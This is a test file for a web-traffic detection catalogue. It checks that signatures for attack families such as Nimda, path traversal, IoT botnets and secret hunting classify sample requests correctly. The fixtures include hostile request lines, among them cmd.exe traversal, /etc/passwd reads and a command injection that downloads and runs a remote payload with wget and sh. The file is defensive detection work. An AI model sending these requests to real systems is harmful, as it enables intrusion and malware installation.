import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import safeRegex from 'safe-regex2';
import YAML from 'yaml';
import { compileCatalogue, exampleRequest, parseRequestLine } from '../../src/detect/index.js';
import { responseVerdict } from '../../src/detect/response.js';
import { validateRuleData } from '../../src/detect/rule-schema.js';
import type { Signature, SignatureExample, Stage } from '../../src/detect/index.js';

const DIR = resolve(import.meta.dirname, '../../catalogue-next');

/** Family names are metric label values: a short fixed set that says what the thing is. */
const FAMILIES = new Set([
  'codered', 'nimda', 'iis-exploit', 'webdav-overflow', 'share-worm', 'log4shell', 'shellshock',
  'iot-botnet', 'web-exploit', 'traversal', 'hunt', 'scanner', 'non-http',
]);

/** Signatures allowed to have no literals (verified on every request of their methods). */
const WITHOUT_LITERALS = new Set(['webdav-search-overflow', 'webdav-search-large-body']);

/** Files of catalogue-next/ that became built-in already (in catalogue/): part of detection v3 still. */
const PROMOTED = ['90-hunt.yaml'];
const BUILTIN_DIR = resolve(DIR, '../catalogue');

function readNext(): { files: string[]; signatures: Signature[]; disable: string[]; errors: string[] } {
  const files = [...readdirSync(DIR).filter((f) => f.endsWith('.yaml')), ...PROMOTED].sort();
  const errors: string[] = [];
  const signatures: Signature[] = [];
  const disable: string[] = [];
  for (const f of files) {
    const set = validateRuleData(YAML.parse(readFileSync(join(PROMOTED.includes(f) ? BUILTIN_DIR : DIR, f), 'utf8')), f, errors);
    signatures.push(...set.signatures);
    disable.push(...set.disable);
  }
  return { files, signatures, disable, errors };
}

const next = readNext();
const engine = compileCatalogue(next.signatures);

/** What the whole catalogue says of a request answered with `status` (default 404): the verdict a pipeline would act on. */
function judge(ex: SignatureExample | string, status?: number, body?: string): { id: string; family: string; stage: Stage; verdict: string } | null {
  const example = typeof ex === 'string' ? { request: ex } : ex;
  const n = engine.normalise(exampleRequest(example));
  const v = engine.match(n, 'request');
  if (v) return { id: v.signature.id, family: v.signature.family, stage: 'request', verdict: 'probe' };
  const w = engine.match(n, '404');
  if (!w) return null;
  const verdict = responseVerdict(w.signature, status ?? example.status ?? 404, body ?? example.body);
  return verdict ? { id: w.signature.id, family: w.signature.family, stage: '404', verdict } : null;
}

describe('catalogue-next/ (detection v3)', () => {
  it('validates every file with the user-rule validator, without a single error', () => {
    assert.deepEqual(next.errors, []);
    assert.ok(next.signatures.length >= 130, `only ${next.signatures.length} signatures`);
  });

  it('has unique kebab-case ids, families from the fixed set, and files named after their family', () => {
    const ids = next.signatures.map((s) => s.id);
    assert.equal(new Set(ids).size, ids.length);
    for (const s of next.signatures) assert.ok(FAMILIES.has(s.family), `${s.id}: family ${s.family}`);
    for (const f of next.files) {
      assert.match(f, /^\d{2}-[a-z0-9-]+\.yaml$/);
      const text = readFileSync(join(PROMOTED.includes(f) ? BUILTIN_DIR : DIR, f), 'utf8');
      assert.match(text, /^# \S.{20,}\n/, `${f}: no opening comment`);
      const data = YAML.parse(text) as { signatures?: Signature[] };
      const prefix = f.replace(/^\d{2}-/, '');
      for (const s of data.signatures ?? []) assert.ok(prefix.startsWith(s.family), `${f} holds family ${s.family}`);
    }
  });

  it('gives every signature a description, references, a stage reason and examples of both kinds', () => {
    for (const s of next.signatures) {
      assert.ok(s.title.length > 5 && s.title.length < 130, `${s.id} title`);
      assert.ok(s.description.length > 150, `${s.id} description too short`);
      assert.ok(s.references.length > 0, `${s.id} references`);
      assert.ok(s.stageReason && s.stageReason.length > 10, `${s.id} stageReason`);
      assert.ok(s.examples.positive.length > 0 && s.examples.negative.length > 0, `${s.id} examples`);
    }
  });

  it('declares response semantics on every 404-stage signature, and on none of the request stage', () => {
    for (const s of next.signatures) {
      if (s.stage === '404') assert.ok(s.response, `${s.id}: 404 stage without response`);
      else assert.equal(s.response, undefined, `${s.id}: request stage with response`);
    }
  });

  it('keeps patterns in the PCRE-shared subset, safe from backtracking, with lower-case literals', () => {
    for (const s of next.signatures) {
      const p = s.match.pattern;
      assert.doesNotMatch(p, /\(\?<[=!]|\(\?<[a-z]|\\k</i, `${s.id}: lookbehind or named group`);
      assert.ok(safeRegex(p), `${s.id}: pattern prone to catastrophic backtracking`);
      assert.doesNotMatch(p.replace(/\\[A-Za-z]/g, ''), /[A-Z]/, `${s.id}: upper-case letter in a pattern over lower-cased text`);
      if (!WITHOUT_LITERALS.has(s.id)) assert.ok(s.match.literals?.length, `${s.id}: no literals`);
      for (const l of s.match.literals ?? []) assert.equal(l, l.toLowerCase(), `${s.id}: literal ${l}`);
    }
  });

  for (const s of next.signatures) {
    it(`${s.id}: positives are detected by the catalogue, negatives by nothing (at their status)`, () => {
      for (const ex of s.examples.positive) assert.ok(judge(ex), `${s.id}: the catalogue misses ${ex.request.slice(0, 100)}`);
      for (const ex of s.examples.negative) {
        const v = judge(ex);
        assert.equal(v, null, `negative example of ${s.id} matched ${v?.id}: ${ex.request.slice(0, 100)}`);
      }
    });
  }

  it('switches off every built-in id it reuses, so that it can be tried today with --rules', () => {
    const builtinIds = readdirSync(BUILTIN_DIR).filter((f) => f.endsWith('.yaml') && !PROMOTED.includes(f)).flatMap((f) => (YAML.parse(readFileSync(resolve(BUILTIN_DIR, f), 'utf8')) as { signatures: Signature[] }).signatures.map((s) => s.id));
    assert.deepEqual([...next.disable].sort(), [...builtinIds].sort());
  });
});

describe('catalogue-next/: the right names', () => {
  const family = (line: string, status?: number): string | undefined => judge(line, status)?.family;

  it('keeps Nimda to Nimda\'s own folders with cmd.exe or root.exe', () => {
    assert.equal(family('GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0'), 'nimda');
    assert.equal(family('GET /_vti_bin/..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0'), 'nimda');
    assert.equal(family('GET /c/winnt/system32/cmd.exe?/c+dir HTTP/1.0'), 'nimda');
    assert.equal(family('GET /MSADC/root.exe?/c+dir HTTP/1.0'), 'nimda');
  });

  it('calls a scanner\'s encoded traversal traversal, not nimda', () => {
    assert.equal(family('GET /..%252f..%252f..%252fetc/passwd HTTP/1.1'), 'traversal');
    assert.equal(family('GET /static/..%c0%af..%c0%af..%c0%afetc/hosts HTTP/1.1'), 'traversal');
    assert.equal(family('GET /%2e%2e/%2e%2e/%2e%2e/boot.ini HTTP/1.1'), 'traversal');
  });

  it('calls an Acunetix command-injection probe scanner, not an IoT bot', () => {
    assert.equal(family('GET /ping.cgi?ip=127.0.0.1%7Cwget%20http://hitkqz1y2x.bxss.me/ HTTP/1.1'), 'scanner');
    assert.equal(family('GET /index.php?q=;wget http://198.51.100.7/mips;sh mips HTTP/1.1'), 'iot-botnet');
  });

  it('names router exploits iot-botnet whether answered 404, 400 or 405', () => {
    for (const status of [400, 404, 405]) {
      assert.equal(family('POST /cgi-bin/ViewLog.asp HTTP/1.1', status), 'iot-botnet', String(status));
      assert.equal(family('POST /HNAP1/ HTTP/1.1', status), 'iot-botnet', String(status));
    }
    assert.equal(judge('POST /HNAP1/ HTTP/1.1', 200), null, 'a real router answering its own HNAP service');
  });

  it('reads non-HTTP bytes the way parseRequestLine hands them over: empty method, the bytes as target', () => {
    const tls = '\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03';
    assert.deepEqual(parseRequestLine(tls), { method: '', target: tls });
    assert.equal(family(tls), 'non-http');
    assert.equal(family('SSH-2.0-Go'), 'non-http');
    assert.equal(family('MGLNDD_192.0.2.1_80'), 'non-http');
    assert.equal(family('\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr'), 'non-http');
  });

  it('reports a hunt refused with 403 as a probe, and a served secret as an exposure', () => {
    assert.deepEqual(judge('GET /.env HTTP/1.1', 403), { id: 'probe-dotenv', family: 'hunt', stage: '404', verdict: 'probe' });
    assert.equal(judge('GET /.env HTTP/1.1', 200)?.verdict, 'exposure');
    assert.equal(judge('GET /.env HTTP/1.1', 200, '<html><body>shop</body></html>')?.verdict, 'probe');
    assert.equal(judge('GET /wp-login.php HTTP/1.1', 200), null, 'a WordPress site\'s own login page');
  });
});
